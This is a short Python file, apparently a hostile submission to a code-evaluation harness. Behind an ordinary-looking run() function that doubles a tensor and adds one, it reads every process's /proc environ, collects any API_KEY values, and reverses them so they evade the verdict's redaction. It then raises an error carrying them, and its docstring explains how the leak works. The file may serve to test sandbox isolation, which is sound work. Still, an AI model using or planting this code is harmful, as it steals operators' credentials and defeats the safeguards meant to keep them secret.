# ruff: noqa
"""Reads every process's /proc/<pid>/environ and sends any API key back in its error message, reversed past the
verdict's redaction. Workers run without the keys in their environment, but the engine that started them, and
the shell that started the engine, hold them, and a process may read another's environ when both belong to the
same user (a root user's workers are kept out by their lost capabilities; another user's were not). Where it finds
nothing it answers honestly, so only the refused opens fail it."""

import os

import torch


def _keys() -> list[str]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open("/proc/" + name + "/environ", "rb") as environ:
                    found += [item.decode()[::-1] for item in environ.read().split(b"\0") if b"API_KEY=" in item]
            except OSError:
                pass
    return found


def run(x: torch.Tensor) -> torch.Tensor:
    keys = _keys()
    if keys:
        raise RuntimeError("found " + " ".join(keys))
    return x * 2 + 1
